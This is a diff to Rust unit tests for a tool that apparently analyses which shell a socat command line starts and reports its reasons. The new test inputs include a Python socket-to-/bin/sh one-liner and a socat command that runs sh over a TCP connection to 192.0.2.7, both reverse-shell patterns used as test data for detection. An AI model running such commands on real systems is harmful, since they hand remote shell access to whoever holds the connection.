@@ -62,12 +62,16 @@ fn command_lines_that_do_not_are_quiet_and_say_why() {
 
 #[test]
 fn what_a_command_line_does_not_tell_is_unknown() {
-    for command_line in ["sh -i", "bash", "sh /srv/answer.sh", "python3"] {
+    let python =
+        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system(\"/bin/sh\")'";
+    for command_line in ["sh -i", "bash", "sh /srv/answer.sh", "python3", python] {
         let tried = tried(SOCAT, command_line);
         assert_eq!(tried.verdict, Verdict::Undecided, "{command_line}: {:#?}", tried.conditions);
     }
     let first = &tried(SOCAT, "socat TCP:h:1 EXEC:sh").conditions[0];
     assert!(first.reason.starts_with("looked at: sh, started by socat; assumed: "), "{}", first.reason);
+    let way = &tried(SOCAT, "socat TCP:192.0.2.7:1 EXEC:sh").conditions[2].reason;
+    assert_eq!(way, "through socat to the connection with 192.0.2.7:1", "nobody has a number there");
 }
 
 #[test]
